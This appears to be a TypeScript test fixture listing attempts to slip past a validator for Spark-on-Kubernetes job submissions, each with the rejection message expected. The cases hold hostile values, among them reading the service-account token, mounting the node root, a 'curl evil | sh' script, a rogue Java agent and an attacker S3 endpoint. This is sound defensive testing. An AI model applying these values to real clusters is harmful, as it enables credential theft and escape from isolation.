import { byConf, byTemplate, type Escape } from './limit-bypass.ts';

const TOKEN = '/var/run/secrets/kubernetes.io/serviceaccount/token';

/** Attempts through the worker's own spark-submit: all that native has, and the worker itself. */
export const SPARK_SUBMIT: readonly Escape[] = [
  { about: 'an image of somewhere else', written: { image: 'evil/spark:4.1' }, told: /is no image/ },
  {
    about: "another team's service account",
    written: { driver: { serviceAccount: 'admin' } },
    told: /"admin" is no service account/,
  },
  byTemplate(
    'a path of the node',
    'executor',
    { volumes: [{ name: 'x', hostPath: { path: '/' } }] },
    /"\/" is a path of the node/,
  ),
  byTemplate(
    "the node's network, in a word of YAML 1.1",
    'driver',
    { hostNetwork: 'yes' },
    /shares the node's network/,
  ),
  {
    about: "the worker's token as the application",
    written: { mainApplicationFile: TOKEN, sparkConf: { 'spark.kubernetes.file.upload.path': 's3a://mine' } },
    told: /is a file of the worker/,
  },
  {
    about: "the worker's token as a file",
    written: { deps: { files: [`file://${TOKEN}`] }, sparkConf: { 'spark.kubernetes.file.upload.path': 's3a://mine' } },
    told: /is a file of the worker/,
  },
  {
    about: "the worker's token as a jar, FILE: in capitals",
    written: { deps: { jars: [`FILE:${TOKEN}`] }, sparkConf: { 'spark.kubernetes.file.upload.path': 's3a://mine' } },
    told: /is a file of the worker/,
  },
  byConf(
    "the worker's token for the driver",
    { 'spark.kubernetes.authenticate.driver.oauthTokenFile': TOKEN },
    /gives other credentials/,
  ),
  byConf(
    "the worker's certificates for the driver",
    { 'spark.kubernetes.authenticate.driver.clientKeyFile': '/etc/key' },
    /gives other credentials/,
  ),
  byConf(
    "a template of the worker's",
    { 'spark.kubernetes.driver.podTemplateFile': '/tmp/privileged.yaml' },
    /names a file that nobody can look into/,
  ),
  byConf(
    'a template of somewhere else',
    { 'spark.kubernetes.executor.podTemplateFile': 'https://evil/pod.yaml' },
    /names a file that nobody can look into/,
  ),
  byConf("a file of the worker's as krb5.conf", { 'spark.kubernetes.kerberos.krb5.path': TOKEN }, /names a file/),
  byConf(
    "the worker's Kerberos",
    { 'spark.kerberos.principal': 'worker', 'spark.kerberos.keytab': '/etc/worker.keytab' },
    /its own Kerberos credentials/,
  ),
  {
    about: 'code fetched into the worker',
    written: { deps: { packages: ['evil:steps:1'], repositories: ['https://evil'] } },
    told: /makes the worker fetch code/,
  },
  byConf('an ivy of its own', { 'spark.jars.ivySettings': '/tmp/ivy.xml' }, /makes the worker fetch code/),
  byConf(
    'code that shapes the driver',
    { 'spark.kubernetes.driver.pod.featureSteps': 'evil.Step' },
    /loads code that shapes pods/,
  ),
  byConf('a pod group', { 'spark.kubernetes.scheduler.volcano.podGroupTemplateFile': '/tmp/x.yaml' }, /names a file/),
  byConf(
    'a server that may be anybody',
    { 'spark.kubernetes.trust.certificates': 'true' },
    /show its credentials to any server/,
  ),
  {
    about: 'a script that starts spark-submit',
    written: { sparkConfFiles: { 'spark-env.sh': 'curl evil | sh' } },
    told: /would be read by spark-submit on the worker/,
  },
  {
    about: "options of the worker's JVM",
    written: { sparkConfFiles: { 'java-opts': '-javaagent:/tmp/evil.jar' } },
    told: /would be read by spark-submit on the worker/,
  },
  {
    about: "appenders of the worker's JVM",
    written: { sparkConfFiles: { 'log4j2.properties': 'appender.x.type=File' } },
    told: /would be read by the worker/,
  },
  {
    about: "a Hadoop of its own in the worker's JVM",
    written: { hadoopConfFiles: { 'core-site.xml': '<configuration/>' } },
    told: /would be read by the worker/,
  },
  {
    about: "a store looked up with the worker's credentials at a place of the batch's",
    written: {
      mainApplicationFile: 's3a://mine/job.jar',
      sparkConf: { 'spark.hadoop.fs.s3a.endpoint': 'https://evil' },
    },
    told: /is looked up by the worker itself/,
  },
  byConf(
    "the worker's login",
    { 'spark.hadoop.hadoop.security.authentication': 'kerberos' },
    /act with its own credentials/,
  ),
  {
    about: 'an option in place of a file',
    written: { deps: { jars: ['--conf'] } },
    told: /is an option for spark-submit/,
  },
  byConf('more executors', { 'spark.executor.instances': '400' }, /may be 400 at a time/),
];
